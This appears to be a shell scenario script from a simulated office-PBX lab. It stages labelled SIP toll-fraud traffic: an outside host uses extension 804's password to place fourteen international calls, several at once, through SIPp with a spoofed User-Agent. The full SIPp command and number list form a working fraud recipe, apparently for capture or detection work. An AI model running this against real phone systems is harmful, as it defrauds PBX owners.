# Somebody outside who knows the password of an extension calls numbers abroad with it, many at once,
# without having registered or guessed.
relocate hotel.example.org 5060 172.29.5 198.18.12 203.0.113
EXTENSIONS=(801 802 803 804 805 806)
EXISTING='^8[0-1][0-9]$'
WEAK=none
open_office
add_attacker thief 203.0.113.130
start_office_capture
keep_alive 14
office_day 308 95
printf '%s\n' SEQUENTIAL >"$scratch/numbers.csv"
for n in $(seq 1 14); do
    case $((n % 3)) in 0) number=00252905$((4000 + n)) ;; 1) number=00881842$((110 + n)) ;; *) number=00960811$((300 + n)) ;; esac
    echo "$number;" >>"$scratch/numbers.csv"
done
sed 's/User-Agent: .*/User-Agent: Asterisk PBX 16.28.0/' "$parts/sipp/fraud.xml" >"$scratch/fraud.xml"
at 18 attack A1 toll_fraud thief 5080 "With the password of 804 somebody outside calls fourteen numbers abroad, up to nine at once." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/fraud.xml" -nostdin -inf "$scratch/numbers.csv" \
    -i 203.0.113.130 -mi 203.0.113.130 -p 5080 -key user 804 -au 804 -ap secret804 -d 22000 -r 1 -rp 2500 -m 14 -l 14 172.29.5.1:5060
echo "804 toll_fraud" >>"$scratch/users"
play
wait_for A1
close_office
